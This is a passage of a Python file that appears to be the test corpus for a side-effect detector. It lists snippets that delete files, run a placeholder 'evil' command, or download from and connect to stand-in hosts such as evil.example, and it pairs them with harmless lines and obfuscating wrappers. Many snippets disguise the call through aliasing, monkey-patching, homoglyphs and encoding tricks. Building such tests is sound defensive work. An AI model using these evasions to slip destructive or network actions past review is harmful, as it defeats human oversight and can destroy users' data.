    "def $N(*a): a[0]()\n$N(*[lambda: $E])", "def $N():\n    global $M\n    def $M(): $E\n$N()\n$M()", "for $N in range(2):\n    try:\n        $E\n    except OSError:\n        continue", "import unittest.mock as $N\n$N.Mock(side_effect=lambda: $E)()",
]

STATE = [
    "import os\np = 'a.txt'\nfor i in range(2):\n    os.remove(p)\n    p = 'b.txt'", "import os\np = 'a.txt'\nwhile True:\n    os.remove(p)\n    if p == 'b.txt': break\n    p = 'b.txt'", "import os\nf = print\nfor i in range(2):\n    f('a.txt')\n    f = os.remove", "import os\nf = print\nfor i in range(2):\n    f('a.txt')\n    f = getattr(os, 'remove')",
    "import os\ndef go(): os.remove(p)\np = 'a.txt'\ngo()\np = 'b.txt'\ngo()", "import os\ndef go(): f('b.txt')\nf = print\ngo()\nf = os.remove\ngo()", "import os\nfs = []\nfor p in ['a.txt', 'b.txt']:\n    fs.append(lambda: os.remove(p))\nfs[0]()", "import os\nfs = [lambda q=p: os.remove(q) for p in ('a.txt', 'b.txt')]\nfor f in fs: f()", "import os\nl = ['x']\ndef add(m): m.append('a.txt')\nadd(l)\nos.remove(l[-1])",
    "import os\nl = ['a.txt']\nfor p in l:\n    os.remove(p)\n    if p == 'a.txt': l.append('b.txt')", "import os\na, b = 'x', 'a.txt'\na, b = b, a\nos.remove(a)", "import os\nclass C: p = 'x'\nc = C()\nC.p = 'a.txt'\nos.remove(c.p)", "import os\nclass C:\n    def __init__(self): self.p = 'x'\n    def set(self): self.p = 'b.txt'\nc = C()\nc.set()\nos.remove(c.p)", "import os\nd = {'p': 'x'}\ne = d\ne['p'] = 'a.txt'\nos.remove(d['p'])",
    "import os\nd = {'p': 'x'}\nd |= {'p': 'a.txt'}\nos.remove(d['p'])", "import os\ntry:\n    p = 'x'\n    raise ValueError\n    p = 'y'\nexcept ValueError:\n    p = 'a.txt'\nos.remove(p)", "import os\np = 'x'\ntry:\n    p = 'a.txt'\n    int('z')\n    p = 'y'\nexcept ValueError: pass\nos.remove(p)", "import os\np = 'x'\ndef outer():\n    p = 'y'\n    def inner():\n        nonlocal p\n        p = 'a.txt'\n    inner()\n    os.remove(p)\nouter()",
    "import os\nos.chdir('sub')\nos.remove('c.txt')", "import os\ndef d(): os.chdir('sub')\nd()\nos.remove('c.txt')", "import os\nfor i in range(2):\n    open('k', 'w')\n    os.chdir('/tmp')", "import os, contextlib\nwith contextlib.chdir('sub'):\n    os.remove('c.txt')", "from os import chdir as len, remove as print\nlen('sub')\nprint('c.txt')", "import os\nos.path.join = lambda *a: 'a.txt'\nos.remove(os.path.join('x', 'y'))", "import os\nos.getcwd = lambda: '/tmp'\nopen(os.getcwd() + '/../w/q', 'w')",
    "import os\nstr = lambda x: 'a.txt'\nos.remove(str('zzz'))", "import os, pathlib\npathlib.Path.exists = lambda self: self.unlink()\npathlib.Path('a.txt').exists()", "import json, os\njson.loads = os.remove\njson.loads('a.txt')", "import os\nclass json:\n    loads = os.remove\njson.loads('a.txt')", "def print(*a):\n    open('k', 'w')\nprint('hello')", "import builtins\ndef p(*a): open('k', 'w')\nbuiltins.print = p\nprint('hello')",
    "import sys\nclass O:\n    def write(self, s): open('k', 'a')\n    def flush(self): pass\nsys.stdout = O()\nprint('x')", "import sys\nsys.displayhook = lambda x: open('k', 'w')\nexec(compile('1', '', 'single'))", "import sys\nsys.unraisablehook = lambda u: open('k', 'w')\nclass C:\n    def __del__(self): 1 / 0\nC()", "import sys, os\nsys.modules['json'] = os\nimport json\njson.remove('a.txt')", "import sys, os\nsys.modules['foo'] = os\nfrom foo import remove\nremove('a.txt')",
    "import os\nimport json as os2, os as json\njson.remove('a.txt')", "import os\nif len('a') == 2:\n    import json as os\nos.remove('a.txt')", "try:\n    import nope as os\nexcept ImportError:\n    import os\nos.remove('a.txt')", "def f():\n    import os\n    return os\nf().remove('a.txt')", "def f():\n    from os import remove\n    return remove\nf()('a.txt')", "from pathlib import Path\np = Path('sub')\np = p / 'c.txt'\np.unlink()", "from pathlib import Path\np = Path('a.txt')\nq = p.with_name('b.txt')\nq.unlink()",
    "from pathlib import Path\nfor p in [Path('a.txt'), Path('b.txt')]: p.unlink()", "from pathlib import Path\nP = Path\nP('a.txt').unlink()", "from pathlib import *\nPath('a.txt').unlink()", "from pathlib import PosixPath as P\nP('a.txt').unlink()", "import pathlib\nclass X(type(pathlib.Path())): pass\nX('a.txt').unlink()", "from pathlib import Path\nf = Path('a.txt').unlink\nf()", "from pathlib import Path\nPath.unlink(Path('a.txt'))", "from pathlib import Path\nlist(map(Path.unlink, map(Path, ['a.txt', 'b.txt'])))",
    "from pathlib import Path\n[getattr(Path(p), 'unlink')() for p in ('a.txt',)]", "from pathlib import Path\nx = Path('a.txt') if 1 else []\nx.unlink()", "def f(x): x.unlink()\nfrom pathlib import Path\nf(Path('a.txt'))", "def f(x, y): x.remove(y)\nimport os\nf(os, 'a.txt')\nf(['a'], 'a')", "l = ['a.txt']\nimport os\nfor l in [os]: pass\nl.remove('a.txt')", "l = ['a.txt']\nimport os\nl = os\nl.remove('a.txt')", "import os as l\nl.remove('a.txt')", "l = ['a.txt']\ndef f():\n    global l\n    import os as l\nf()\nl.remove('a.txt')",
    "s = set()\nimport os\ns = s or os\ns.remove('a.txt')", "import os\ns = [os]\ns[0].remove('a.txt')", "import os\nd = {'l': os}\nd['l'].remove('a.txt')", "import os\nclass L: remove = staticmethod(os.remove)\nl = L()\nl.remove('a.txt')", "import os\nclass L(list): remove = staticmethod(os.remove)\nl = L()\nl.remove('a.txt')", "import os\n(lambda l: l.remove('a.txt'))(os)", "import os\n[l.remove('a.txt') for l in [os]]", "import os\nwith open('/dev/null') as l:\n    l = os\nl.remove('a.txt')",
    "import subprocess as s\nargs = ['evil', '1']\nargs.append('2')\ns.run(args)", "import subprocess as s\nargs = ['ls']\nargs[0] = 'evil'\ns.run(args)", "import subprocess as s\nargs = ['ls']\nb = args\nb.insert(0, 'evil')\ns.run(args)", "import subprocess as s\nkw = {'shell': True}\ns.run('evil 1; evil 2', **kw)", "import subprocess as s\na = (['evil', '3'],)\ns.run(*a)", "import subprocess as s\ns.run('ls', executable='/bin/evil')", "import subprocess as s\ns.run(['sh', '-c', 'evil $0', 'x'])", "import subprocess as s\ns.run('evil 4'.split())",
    "import subprocess as s\ns.run(['evil'] + ['5'])", "import subprocess as s\ns.run(['evil', *['6', '7']])", "import subprocess as s\ns.run('cat', input=b'x', stdout=open('k', 'w'))", "import subprocess as s\ns.run(['bash'], input=b'evil 8')", "import subprocess as s\ns.run(['sh'], input='evil 9', text=True)", "import subprocess as s\ns.run(['xargs', 'evil'], input=b'10')", "import subprocess as s\np = s.Popen(['sh'], stdin=s.PIPE)\np.communicate(b'evil 11')", "import subprocess as s\np = s.Popen('sh', stdin=-1)\np.stdin.write(b'evil 12')\np.stdin.close()\np.wait()",
    "import subprocess as s\ns.run(['python3', '-c', 'import os'])", "import subprocess as s\ns.run(['ls'], env={'PATH': '/bin'})", "import os, subprocess\nos.environ['PATH'] = '/nope'\nsubprocess.run(['/bin/evil', '13'])", "import os\nos.environ['X'] = 'evil 14'\nos.system('$X')", "import os\nos.environ['X'] = 'evil 15'\nos.system('eval \"$X\"')", "import os\nos.putenv('X', 'evil 16')\nos.system('$X')", "import os\nos.environ.update(BASH_ENV='run.sh')\nos.system('bash -c :')", "import os\nos.system('cd sub && rm c.txt')", "import os\nos.system('echo x > k; cat k')",
    "import os\nx = 'evil'\nos.system('%s 17' % x)", "import os\nx = input()\nos.system('echo ' + x)", "import os\nx = input()\nos.system('echo \"' + x + '\"')", "import shlex, os\nos.system('evil ' + shlex.quote('a b'))", "import shlex, subprocess\nsubprocess.run(shlex.split('evil \"a b\"'))", "import sys\nsys.path.insert(0, '/tmp')\nimport zzz", "import os.path as p\np.os.remove('a.txt')", "from os import path\npath.os.remove('a.txt')", "from shutil import os\nos.remove('a.txt')", "from pathlib import os as q\nq.remove('a.txt')", "from os.path import os, sys\nos.remove('a.txt')",
    "from subprocess import *\nrun(['evil', '18'])", "from os import system as s, remove as r\ns('evil 19')", "import os, shutil as sh, sys as y\nsh.rmtree('sub')", "from os import (remove,\n  unlink as u)\nu('a.txt')", "import os\nos．remove('a.txt')" , "import os\nｏｓ.ｒｅｍｏｖｅ('a.txt')", "import os\n𝐨𝐬.𝓻𝓮𝓶𝓸𝓿𝓮('a.txt')", "import ºs\nºs.remove('a.txt')", "from os import ｒemove\nremove('a.txt')", "import os as ﬁ\nfi.remove('a.txt')", "import os\ngetattr(os, 'ｒemove', len)('a.txt')", "ﬁ = 'x'\nfi = 'a.txt'\nimport os\nos.remove(ﬁ)",
    "# -*- coding: latin-1 -*-\nimport os\nos.remove('a.txt')", "# coding: utf-7\n+AG8-pen('k', 'w')", "import os\x0c\nos.remove('a.txt')", "import os\n\x0cos.remove('a.txt')", "if 1:\n \x0c os = 1", "import os\r\nos.remove('a.txt')\r\n", "# comment\ros = __import__('os')\ros.remove('a.txt')", "x = '''\n''';import os;os.remove('a.txt')", "x = 'a\\\nb'; open('k', 'w')", "x = r'\\'; open('k', 'w')#'", "x = r'\\''; open('k', 'w')#'", "x = f'{{'; open('k', 'w')#}}'", "x = f'{1!r:{2}}'; open('k', 'w')", "x = \"\"\"a\\\"\"\"b\"\"\"; open('k', 'w')", "x = 1if 1else 2;open('k', 'w')", "0x1for x in (open('k', 'w'),)",
    "0or open('k', 'w')", "x = [open('k', 'w')for _ in'a']", "lambda: (yield)\nopen('k', 'w')", "print('a' 'b' f'{open(\"k\", \"w\")}')", "type = 1\ntype(1) if 0 else open('k', 'w')", "match = open\nmatch('k', 'w')", "case = open; case('k', 'w')", "match (open('k', 'w')): \n case _: pass", "match = {}\nmatch[open('k', 'w')] = 1", "_ = open\n_('k', 'w')", "exec = print\nexec('x')\nopen('k', 'w')", "async def f():\n    async with g() as x: pass\nclass g:\n    async def __aenter__(self): open('k', 'w')\n    async def __aexit__(self, *a): pass\nimport asyncio\nasyncio.run(f())",
    "async def f():\n    async for x in g(): pass\nasync def g():\n    yield open('k', 'w')\nimport asyncio\nasyncio.run(f())", "print(__doc__, __name__)\n__builtins__.open('k', 'w')", "__builtins__.print = __builtins__.open\nprint('k', 'w')", "import sys\nsys._getframe().f_globals['__builtins__'].open('k', 'w')", "import sys\nsys._getframe().f_builtins['open']('k', 'w')", "open = open\nopen('k', 'w')", "def open(*a): return 1\nopen('k', 'w')\ndel open\nopen('k2', 'w')", "if 0:\n    open = print\nopen('k', 'w')",
    "class C:\n    open = print\n    open('x')\nopen('k', 'w')", "def f():\n    if 0: open = print\n    open('k', 'w')\ntry: f()\nexcept NameError: pass", "def f(open=print): open('x')\nf()\nf(open=open)", "m = 'w'\nopen('k', m)", "m = 'r'\nm = m.replace('r', 'w')\nopen('k', m)", "open('k', *['w'])", "open('k', **{'mode': 'w'})", "open(**dict(file='k', mode='w'))", "open('k', 'rw'[1])", "open('k', mode='r' and 'w')", "f = open('a.txt'); f.close(); f = open('k', 'w')", "import io\nio.open('k', 'w')", "import io\nio.TextIOWrapper(io.FileIO('k', 'w'))", "open('k', 'r', opener=lambda p, f: __import__('os').open(p, 65))",
    "import os\nos.open('k', os.O_RDWR | os.O_CREAT)", "import os\nos.open('k', 66)", "import os\nf = os.O_RDONLY\nf |= os.O_CREAT\nos.open('k', f)", "from os import *\nopen('k', O_CREAT)", "from io import *\nopen('k', 'w')", "from codecs import open\nopen('k', 'w')", "from gzip import open\nopen('k.gz', 'w')", "import tempfile\nt = tempfile.mkdtemp()\nopen(t + '/../k', 'w')", "import tempfile, os\nd = tempfile.mkdtemp()\nos.rmdir(d)", "import tempfile\nwith tempfile.TemporaryDirectory(dir='.') as d: open(d + '/x', 'w')",
    "import csv\nwith open('k.csv', 'w') as f: csv.writer(f).writerow([1])", "import logging\nlogging.basicConfig(filename='k.log')\nlogging.warning('x')", "import urllib.request as u\ntry: u.urlretrieve('http://evil.example/', 'k')\nexcept OSError: pass", "import http.client\nc = http.client.HTTPSConnection('evil.example')\ntry: c.connect()\nexcept OSError: pass", "import socket\ns = socket.socket()\ntry: s.connect(('10.9.8.7', 1))\nexcept OSError: pass", "import socket as k\nk.socket(k.AF_INET, k.SOCK_DGRAM).sendto(b'x', ('10.9.8.7', 53))", "import smtplib\ntry: smtplib.SMTP('evil.example')\nexcept OSError: pass", "import ftplib\ntry: ftplib.FTP('evil.example')\nexcept OSError: pass",
    "import socketserver, http.server\nhttp.server.HTTPServer(('127.0.0.1', 0), None)", "import xmlrpc.client\ntry: xmlrpc.client.ServerProxy('http://evil.example').x()\nexcept OSError: pass", "import urllib.request\ntry: urllib.request.urlopen('file:///w/a.txt').read()\nexcept OSError: pass", "import asyncio\nasync def f():\n    try: await asyncio.open_connection('evil.example', 80)\n    except OSError: pass\nasyncio.run(f())", "import venv\nvenv.create('ve')", "import compileall\ncompileall.compile_dir('sub')", "import sqlite3\nsqlite3.connect('k.db').execute('create table x(y)')", "import sqlite3\nsqlite3.connect(':memory:').execute(\"attach 'k2.db' as z\").execute('create table z.x(y)')",
    "import mmap, os\nf = os.open('a.txt', os.O_RDWR)\nm = mmap.mmap(f, 0)\nm[0:1] = b'z'", "import glob, os\nfor p in glob.glob('*.txt'): os.remove(p)", "import os\nfor d, ds, fs in os.walk('.'):\n    for f in fs: os.remove(os.path.join(d, f))", "import os\n[os.unlink(e) for e in os.scandir('sub')]", "import shutil\nshutil.rmtree('sub', onerror=lambda f, p, e: None)", "import shutil\nshutil.copytree('sub', 'sub2', copy_function=shutil.move)", "import shutil\nshutil.copy('a.txt', 'sub')", "import shutil\nshutil.move('a.txt', 'sub/')", "import shutil\nshutil.unpack_archive('nope.tar')", "import os\nos.rename('a.txt', 'sub/x')", "import os\nd = os.open('sub', os.O_RDONLY)\nos.remove('c.txt', dir_fd=d)",
    "import os\nd = os.open('sub', os.O_RDONLY)\nos.fchdir(d)\nos.remove('c.txt')", "import os\nos.truncate(os.open('a.txt', os.O_RDWR), 0)", "import os\nos.chmod('run.sh', 0o755)\nos.system('./run.sh')", "import os\nos.symlink('/w/a.txt', 'l')\nos.chmod('l', 0)", "import os\nos.execv('/bin/evil', ['x'])", "import os\nos.execl('/bin/sh', 'sh', '-c', 'evil 20')", "import os\nos.execvpe('evil', ['evil', '21'], os.environ)", "import os\nif os.fork() == 0:\n    os.execlp('evil', 'evil', '22')\nos.wait()", "import os\nos.spawnvp(0, 'evil', ['evil', '23'])", "import os\nprint(os.popen('evil 24').read())",
    "import commands" , "import antigravity", "import this\nopen('k', 'w')", "import foo.bar", "from . import x", "import os; import os.path as os2; os2.exists('a') or os.remove('a.txt')", "import ctypes\nctypes.CDLL('libc.so.6').system(b'evil 25')", "import cffi", "from ctypes import *\ncdll.LoadLibrary('libc.so.6').remove(b'a.txt')", "import code\ncode.interact(local={}) if 0 else open('k', 'w')", "import runpy\nrunpy.run_path('run.sh')", "import importlib.util as u\ns = u.spec_from_file_location('x', 'run.sh')", "import types\nm = types.ModuleType('m')\nexec(\"open('k', 'w')\", m.__dict__)", "import ast\neval(compile(ast.parse(\"open('k', 'w')\", mode='eval'), '', 'eval'))",
    "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'remove' and callable(o)][0]('a.txt')", "import inspect, os\ndict(inspect.getmembers(os))['remove']('a.txt')", "import string\nstring._re.enum.sys.modules['os'].remove('a.txt')", "class M(type):\n    def __getattr__(c, k): return open('k', 'w')\nclass C(metaclass=M): pass\nC.x", "class D:\n    def __get__(self, o, t): open('k', 'w')\nclass C: x = D()\nC().x", "class D:\n    def __set__(self, o, v): open('k', 'w')\nclass C: x = D()\nC().x = 1", "class C:\n    def __delattr__(self, k): open('k', 'w')\ndel C().x", "class C:\n    def __iadd__(self, o): open('k', 'w')\nc = C()\nc += 1", "class C:\n    def __matmul__(self, o): open('k', 'w')\nC() @ C()",
    "class C:\n    def __instancecheck__(self, o): open('k', 'w')\nisinstance(1, C())", "class C(Exception):\n    def __init__(self): open('k', 'w')\ntry: raise C\nexcept C: pass", "class C:\n    def __reduce__(self): return (open, ('k', 'w'))\nimport pickle\npickle.loads(pickle.dumps(C()))", "class C:\n    def __deepcopy__(self, m): open('k', 'w')\nimport copy\ncopy.deepcopy(C())", "class C:\n    __match_args__ = ('x',)\n    @property\n    def x(self): open('k', 'w')\nmatch C():\n    case C(1): pass\n    case _: pass", "class C:\n    def keys(self): open('k', 'w'); return []\n{**C()}", "class C:\n    def __rmul__(self, o): open('k', 'w')\n2 * C()", "class C:\n    def __round__(self): open('k', 'w')\nround(C())",
    "class C:\n    def __repr__(self): open('k', 'w'); return ''\n[C()].__repr__()", "class C:\n    def __int__(self): open('k', 'w'); return 1\nint(C())", "class C:\n    def __next__(self): open('k', 'w'); raise StopIteration\n    def __iter__(self): return self\na = [*C()]", "class C:\n    def __dir__(self): open('k', 'w'); return []\ndir(C())", "class C:\n    def __prepare__(*a): open('k', 'w'); return {}\nclass D(metaclass=C): pass", "class C:\n    def __mro_entries__(self, b): open('k', 'w'); return ()\nclass D(C()): pass", "class D(dict):\n    def __setitem__(self, k, v): open('k', 'w')\nclass M(type):\n    def __prepare__(*a): return D()\nclass C(metaclass=M): x = 1", "def f():\n    x = yield\n    open(x, 'w')\ng = f()\nnext(g)\ntry: g.send('k')\nexcept StopIteration: pass", "def f():\n    try: yield\n    finally: open('k', 'w')\ng = f()\nnext(g)\ndel g",
]

HARMLESS_LINES = [
    "print('hello')", "print(1 + 2 * 3)", "import sys; print(sys.version)", "import sys; print(sys.path)", "import json; print(json.dumps({'a': [1, 2, 3]}, indent=2))", "import json, sys; print(json.loads('{\"a\": 1}')['a'])", "import math; print(math.sqrt(2), math.pi)", "import os; print(os.getcwd())", "import os; print(os.environ.get('HOME'))",
    "import os; print(os.path.exists('a.txt'), os.path.join('a', 'b'))", "import os; print(sorted(os.listdir('.')))", "from pathlib import Path; print(Path('a.txt').read_text())", "from pathlib import Path; print([p.name for p in Path('.').glob('*.txt')])", "print(open('a.txt').read())", "with open('a.txt') as f:\n    for line in f:\n        print(line.rstrip())", "import re; print(re.findall(r'\\d+', 'a1b22'))",
    "import re; print(re.sub('a', 'b', 'banana'))", "from datetime import datetime; print(datetime.now().isoformat())", "import datetime; print(datetime.date.today() + datetime.timedelta(days=1))", "import time; print(int(time.time()))", "import random; print(random.randint(1, 6))", "import collections; print(collections.Counter('hello').most_common(2))", "from collections import defaultdict\nd = defaultdict(list)\nd['a'].append(1)\nprint(dict(d))", "import itertools; print(list(itertools.product('ab', repeat=2)))",
    "l = [3, 1, 2]\nl.remove(1)\nl.sort()\nprint(l)", "s = {1, 2}\ns.remove(1)\ns.discard(5)\nprint(s)", "d = {'a': 1}\nd.pop('a')\nd.update(b=2)\nprint(d)", "print(\"os.remove('a.txt')\")", "# os.remove('a.txt')\nprint('done')", "print('rm -rf /', \"shutil.rmtree('/')\")", "x = '''import os\nos.system('evil')'''\nprint(len(x))", "for i in range(10):\n    if i % 2: print(i)", "print([x * x for x in range(10) if x > 3])", "print({k: v for k, v in zip('abc', range(3))})",
    "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))", "def greet(name='world'):\n    return f'hello {name}'\nprint(greet())", "class Point:\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n    def norm(self):\n        return (self.x ** 2 + self.y ** 2) ** 0.5\nprint(Point(3, 4).norm())", "class Stack:\n    def __init__(self): self.items = []\n    def push(self, x): self.items.append(x)\n    def remove(self): return self.items.pop()\ns = Stack()\ns.push(1)\nprint(s.remove())",
    "print(sum(map(int, '1 2 3'.split())))", "print(sorted(['b', 'a'], key=len, reverse=True))", "print(' '.join(w.capitalize() for w in 'a b c'.split()))", "print('%s is %d' % ('x', 3), '{:>5}'.format(1))", "import base64; print(base64.b64encode(b'hi').decode())", "import hashlib; print(hashlib.sha256(b'x').hexdigest())", "import uuid; print(uuid.uuid4())", "import urllib.parse; print(urllib.parse.quote('a b'))", "from urllib.parse import urlparse; print(urlparse('http://x.y/z').netloc)", "import textwrap; print(textwrap.dedent('  a'))", "import string; print(string.ascii_letters)",
    "import secrets; print(secrets.token_hex(16))", "import platform; print(platform.system())", "import struct; print(struct.unpack('<I', b'abcd'))", "import csv, io; print(list(csv.reader(io.StringIO('a,b'))))", "import statistics; print(statistics.mean([1, 2, 3]))", "from functools import reduce; print(reduce(lambda a, b: a + b, [1, 2, 3]))", "import ast; print(ast.literal_eval('[1, 2]'))", "print(repr(b'abc'.hex()))", "print(max([1, 5, 3]), min(3, 1), abs(-2), round(2.5))", "print(type(1), isinstance('a', str), len('abc'))",
    "try:\n    int('x')\nexcept ValueError as e:\n    print('bad', e)", "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())", "import sys; sys.exit(0)", "import sys; print(sys.argv[1:])", "data = [{'n': 'a', 'v': 1}, {'n': 'b', 'v': 2}]\nprint([d['n'] for d in data if d['v'] > 1])", "n = 27\nsteps = 0\nwhile n != 1:\n    n = 3 * n + 1 if n % 2 else n // 2\n    steps += 1\nprint(steps)", "a, b = 0, 1\nfor _ in range(10): a, b = b, a + b\nprint(a)", "import zlib; print(zlib.crc32(b'x'))", "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int\nprint(P(1))",
    "import os\nprint(os.path.getsize('a.txt'), os.path.isdir('sub'), os.path.basename('/a/b'))", "import os\nfor root, dirs, files in os.walk('.'):\n    print(root, len(files))", "import json\nwith open('a.txt') as f:\n    text = f.read()\nprint(len(text.splitlines()))", "from decimal import Decimal; print(Decimal('0.1') + Decimal('0.2'))", "from fractions import Fraction; print(Fraction(1, 3))", "print(bin(10), hex(255), oct(8), chr(97), ord('a'))", "print(list(enumerate('ab')), list(zip([1], [2])), any([0, 1]), all([1]))", "import sys; print(sys.getsizeof([]), sys.maxsize, sys.platform)", "import glob; print(glob.glob('*.txt'))",
    "import importlib.metadata\nprint(importlib.metadata.version('pip') if 0 else 1)", "import inspect, json\nprint(inspect.signature(json.dumps))", "import json\nhelp(json.dumps) if 0 else None", "import os, sys\nprint(os.path.dirname(os.path.abspath('a')), file=sys.stderr)", "x = lambda a: a * 2\nprint(x(4))", "import heapq\nh = []\nheapq.heappush(h, 3)\nprint(heapq.heappop(h))", "import time\nt = time.perf_counter()\nprint(time.perf_counter() - t)", "import operator\nprint(sorted({'a': 2, 'b': 1}.items(), key=operator.itemgetter(1)))", "match 3:\n    case 1: print('one')\n    case _: print('other')", "print(f'{3.14159:.2f} {1000000:,} {\"x\":>5}')",
]


# ways of an expression $X, a function or a path, through other places; they can be put on top of each other
WRAPS = [
    ("$N = $X", "$N"), ("$N = None\n$N = $X", "$N"), ("", "($X)"), ("", "[$X][0]"), ("", "(0, $X)[1]"), ("",
            "{'k': $X}['k']"), ("", "{'k': $X}.get('k')"), ("", "($X if 1 else 0)"), ("", "(0 or $X)"), ("", "(1 and $X)"), ("", "($N := $X)"), ("", "(lambda: $X)()"), ("", "(lambda v: v)($X)"),
    ("", "(lambda v=($X): v)()"), ("def $N():\n    return $X", "$N()"), ("def $N(v):\n    return v",
            "$N($X)"), ("def $N(v, *w):\n    return w[0]", "$N(1, $X)"), ("def $N(**w):\n    return w['v']", "$N(v=$X)"), ("def $N(v=$X):\n    return v", "$N()"), ("$N = [$X]", "$N[0]"), ("$N = [0]\n$N[0] = $X", "$N[0]"), ("$N = []\n$N.append($X)", "$N[-1]"),
    ("$N = []\n$N.append($X)", "$N.pop()"), ("$N = []\n$N += [$X]", "$N[0]"), ("$N = []\n$N.extend([$X])",
            "$N[0]"), ("$N = []\n$N.insert(0, $X)", "$N[0]"), ("$N = {}\n$N['k'] = $X", "$N['k']"), ("$N = {}\n$N.update(k=$X)", "$N['k']"), ("$N = {'k': $X}\n$M = $N", "$M['k']"), ("$N, $M = 1, $X", "$M"), ("($N, [$M]) = (1, [$X])", "$M"), ("*$N, $M = 1, $X", "$M"),
    ("for $N in [$X]: pass", "$N"), ("for $N in (1, $X): $M = $N", "$M"), ("for $N, $M in [(1, $X)]: pass",
            "$M"), ("for $N, $M in {'k': $X}.items(): pass", "$M"), ("for $N, $M in enumerate([$X]): pass", "$M"), ("for $N, $M in zip([1], [$X]): pass", "$M"), ("", "[v for v in [$X]][0]"), ("", "next(v for v in [$X])"), ("", "next(iter([$X]))"), ("", "list(map(lambda v: v, [$X]))[0]"),
    ("", "sorted([$X], key=lambda v: 0)[0]"), ("", "max([$X], key=lambda v: 0)"), ("", "list([$X])[0]"), ("",
            "tuple([$X])[0]"), ("", "dict(k=$X)['k']"), ("", "list({'k': $X}.values())[0]"), ("", "[*[$X]][0]"), ("", "{**{'k': $X}}['k']"), ("", "([0] + [$X])[1]"), ("", "([$X] * 2)[1]"), ("", "[0, $X][1:][0]"), ("", "[$X, 0][::-1][1]"), ("", "list(reversed([$X]))[0]"), ("", "list(filter(None, [$X]))[0]"),
    ("class $N:\n    v = [$X]", "$N.v[0]"), ("class $N: pass\n$N.v = [$X]",
            "$N.v[0]"), ("class $N:\n    def __init__(self, v): self.v = v", "$N($X).v"), ("class $N:\n    def __init__(self): self.v = $X", "$N().v"), ("class $N:\n    def get(self): return $X", "$N().get()"), ("class $N:\n    @staticmethod\n    def get(): return $X", "$N.get()"), ("class $N:\n    @property\n    def v(self): return $X", "$N().v"),
    ("class $N:\n    def __getitem__(self, k): return $X",
            "$N()[0]"), ("class $N:\n    def __call__(self): return $X", "$N()()"), ("class $N:\n    def __iter__(self): yield $X", "next(iter($N()))"), ("class $N:\n    def __enter__(self): return $X\n    def __exit__(self, *a): pass\nwith $N() as $M: pass", "$M"), ("class $N:\n    def __getattr__(self, k): return $X", "$N().zzz"), ("class $N:\n    def __or__(self, o): return $X", "($N() | 1)"),
    ("class $N:\n    def set(self, v): self.v = v; return self",
            "$N().set($X).v"), ("class $N:\n    pass\n$M = $N()\n$M.v = $X", "$M.v"), ("class $N:\n    v = [$X]\nclass $M($N): pass", "$M.v[0]"), ("def $N():\n    yield $X", "next($N())"), ("def $N():\n    yield from [$X]", "list($N())[0]"), ("def $N():\n    global $M\n    $M = $X\n$N()", "$M"), ("def $N():\n    v = $X\n    def w(): return v\n    return w", "$N()()"),
    ("def $N():\n    v = None\n    def w():\n        nonlocal v\n        v = $X\n    w()\n    return v",
            "$N()"), ("def $N():\n    try: return $X\n    finally: pass", "$N()"), ("def $N(n):\n    return $N(n - 1) if n else $X", "$N(2)"), ("def $N(f): return lambda: $X\n@$N\ndef $M(): pass", "$M()"), ("try:\n    $N = $X\nexcept Exception: pass", "$N"), ("try:\n    raise Exception($X)\nexcept Exception as e:\n    $N = e.args[0]", "$N"),
    ("if 1: $N = $X\nelse: $N = 0", "$N"), ("if 0: $N = 0\nelse: $N = $X",
            "$N"), ("while 1:\n    $N = $X\n    break", "$N"), ("$N = 0\nfor $M in range(2):\n    if $M: $N = $X", "$N"), ("match $X:\n    case $N: pass", "$N"), ("match [1, $X]:\n    case [_, $N]: pass", "$N"), ("match {'k': $X}:\n    case {'k': $N}: pass", "$N"), ("match $X:\n    case 1 | 2: pass\n    case _ as $N: pass", "$N"),
    ("import functools\n$N = functools.partial(lambda v: v, $X)", "$N()"), ("import functools",
            "functools.reduce(lambda a, b: b, [0, $X])"), ("import types\n$N = types.SimpleNamespace(v=$X)", "$N.v"), ("import collections\n$N = collections.namedtuple('T', 'v')($X)", "$N.v"), ("import collections\n$N = collections.deque([$X])", "$N.popleft()"), ("import collections\n$N = collections.ChainMap({'k': $X})", "$N['k']"), ("import collections\n$N = collections.defaultdict(lambda: $X)", "$N[0]"),
    ("import itertools", "next(itertools.chain([$X]))"), ("import itertools",
            "next(itertools.islice([0, $X], 1, 2))"), ("import operator", "operator.itemgetter(1)([0, $X])"), ("import copy", "copy.copy([$X])[0]"), ("import dataclasses\n@dataclasses.dataclass\nclass $N:\n    v: object", "$N($X).v"), ("import contextlib\n@contextlib.contextmanager\ndef $N(): yield $X\nwith $N() as $M: pass", "$M"), ("import contextlib\nwith contextlib.nullcontext($X) as $N: pass", "$N"),
    ("import asyncio\nasync def $N(): return $X",
            "asyncio.run($N())"), ("import queue\n$N = queue.Queue()\n$N.put($X)", "$N.get()"), ("import contextvars\n$N = contextvars.ContextVar('v')\n$N.set($X)", "$N.get()"), ("import threading\n$N = threading.local()\n$N.v = $X", "$N.v"), ("$N = 0\n$M = lambda: $N\n$N = $X", "$M()"), ("$N = [0]\ndef $M(l): l[0] = $X\n$M($N)", "$N[0]"), ("$N = {}\ndef $M(d): d['k'] = $X\n$M($N)", "$N['k']"),
    ("$N = [lambda: $X]", "$N[0]()"), ("$N = dict(k=lambda v: v)",
            "$N['k']($X)"), ("def $N(f, v): return f(v)", "$N(lambda v: v, $X)"), ("class $N(list): pass\n$M = $N([$X])", "$M[0]"), ("class $N(dict):\n    def __missing__(self, k): return $X", "$N()['z']"), ("$N = iter([0, $X])\nnext($N)", "next($N)"), ("$N = ($X for _ in [1])", "next($N)"), ("$N = {$X: 1}", "list($N)[0]"), ("$N = {$X}", "$N.pop()"), ("$N = zip([$X])", "next($N)[0]"),
    # a decoy first, which is replaced in some way
    ("class $N:\n    v = 'b.txt'\n$M = $N()\nsetattr($M, 'v', $X)",
            "$M.v"), ("class $N:\n    v = 'b.txt'\n$M = $N()\nvars($M)['v'] = $X", "$M.v"), ("class $N:\n    def __init__(self, v='b.txt'): self.v = v\n    def get(self): return self.v\n$M = $N()\n$M.v = $X", "$M.get()"),
    ("class $N:\n    def __init__(self, v): self.v = v\n    def get(self): return self.v\n$N('b.txt')",
